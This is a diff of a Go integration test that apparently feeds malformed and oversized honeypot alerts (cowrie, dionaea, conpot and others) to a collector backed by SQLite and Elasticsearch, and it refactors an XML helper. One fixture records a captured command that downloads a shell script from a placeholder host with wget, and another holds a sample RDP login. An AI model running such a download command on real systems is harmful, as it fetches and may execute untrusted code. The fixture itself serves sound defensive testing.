@@ -13,11 +13,6 @@ import (
 	"github.com/peba-edge/peba/integration/edgetest"
 )
 
-// field is an AdditionalData.
-func field(meaning, text string) string {
-	return `<AdditionalData type="string" meaning="` + meaning + `">` + text + `</AdditionalData>`
-}
-
 // wireAlert is an alert with its ports and more elements. Source and target are of the
 // form ADDRESS:PORT.
 func wireAlert(analyzer, source, target string, more ...string) string {
@@ -31,7 +26,7 @@ func wireAlert(analyzer, source, target string, more ...string) string {
 // shown of them.
 func awkward() map[string][]string {
 	const sensor = "80.158.1.7"
-	uuid := field("uuid", "88888888-0000-1111-2222-333333333333")
+	uuid := edgetest.FieldXML("uuid", "88888888-0000-1111-2222-333333333333")
 	good := wireAlert("h0neytr4p-community-01", "8.8.4.4:1", sensor+":443", uuid)
 	ddos := wireAlert("ddospot-community-01", "9.9.9.9:80", sensor+":0", uuid)
 	var samples, headers []string
@@ -40,10 +35,10 @@ func awkward() map[string][]string {
 		samples = append(samples, wireAlert("dionaea-community-01", "8.8.4.4:2", sensor+":445", uuid, `<Request type="largepayload">`+sample+`</Request>`))
 	}
 	for i := range 110_000 {
-		headers = append(headers, field(fmt.Sprintf("header_%x", i), ""))
+		headers = append(headers, edgetest.FieldXML(fmt.Sprintf("header_%x", i), ""))
 	}
 	return map[string][]string{
-		"a name of 70 kB": {good, wireAlert("h0neytr4p-community-01", "8.8.4.4:3", sensor+":443", uuid, field("header_"+strings.Repeat("a", 70_000), "1"))},
+		"a name of 70 kB": {good, wireAlert("h0neytr4p-community-01", "8.8.4.4:3", sensor+":443", uuid, edgetest.FieldXML("header_"+strings.Repeat("a", 70_000), "1"))},
 		"110,000 fields":  {wireAlert("h0neytr4p-community-01", "8.8.4.4:4", sensor+":443", uuid, strings.Join(headers, ""))},
 		"70 MB":           samples,
 		"empty requests": {
@@ -52,11 +47,11 @@ func awkward() map[string][]string {
 			wireAlert("elasticpot-1", "8.8.4.4:6", sensor+":9200", uuid, `<Request type="url"/>`),
 		},
 		"three equal alerts":     {ddos, ddos, ddos},
-		"host name in the id":    {wireAlert("cowrie-1.htw.example", "1.0.0.1:7", sensor+":22", uuid, field("input", "['wget http://x.example/y.sh']"))},
+		"host name in the id":    {wireAlert("cowrie-1.htw.example", "1.0.0.1:7", sensor+":22", uuid, edgetest.FieldXML("input", "['wget http://x.example/y.sh']"))},
 		"ports None and 0":       {wireAlert("conpot-community-01", "8.8.4.4:8", sensor+":None", uuid)},
-		"its own address":        {wireAlert("suricata-community-01", sensor+":22", "1.0.0.1:50000", uuid, field("externalIP", sensor))},
-		"without a host name":    {wireAlert("cowrie-community-01", "8.8.4.4:9", sensor+":22", uuid, field("hostname", "tpot-8")), wireAlert("h0neytr4p-community-01", "8.8.4.4:10", sensor+":443", uuid, field("request_uri", "/"))},
-		"user and password":      {wireAlert("rdphoneypot-community-01", "8.8.4.4:11", sensor+":3389", uuid, field("username", "Administrator"), field("password", "P@ss"))},
+		"its own address":        {wireAlert("suricata-community-01", sensor+":22", "1.0.0.1:50000", uuid, edgetest.FieldXML("externalIP", sensor))},
+		"without a host name":    {wireAlert("cowrie-community-01", "8.8.4.4:9", sensor+":22", uuid, edgetest.FieldXML("hostname", "tpot-8")), wireAlert("h0neytr4p-community-01", "8.8.4.4:10", sensor+":443", uuid, edgetest.FieldXML("request_uri", "/"))},
+		"user and password":      {wireAlert("rdphoneypot-community-01", "8.8.4.4:11", sensor+":3389", uuid, edgetest.FieldXML("username", "Administrator"), edgetest.FieldXML("password", "P@ss"))},
 		"time and spaces of ISO": {strings.NewReplacer("2026-11-28 22:06:00", "\n2026-11-28T20:06:00.5Z ", "8.8.4.4", " 8.8.4.4\n", "333</", "333\n</").Replace(wireAlert("medpot-community-01", "8.8.4.4:12", sensor+":2575", uuid))},
 	}
 }
@@ -67,9 +62,7 @@ func TestAwkwardMessages(t *testing.T) {
 	t.Run("sqlite", func(t *testing.T) { testAwkwardMessages(t, startServer(t, "", "")) })
 	t.Run("elasticsearch", func(t *testing.T) {
 		e := elastics.New(t)
-		const body = `{"index_patterns": [%q], "priority": 500, "template": {"settings": {"number_of_replicas": 0}}}`
-		e.Do(http.MethodPut, "/_index_template/"+e.Prefix+"everything", fmt.Sprintf(body, e.Prefix+"*"), nil)
-		t.Cleanup(func() { e.Do(http.MethodDelete, "/_index_template/"+e.Prefix+"everything", "", nil) })
+		e.CatchAll()
 		s := startServer(t, e.Options(), "")
 		testAwkwardMessages(t, s, func() {
 			s.Drain()
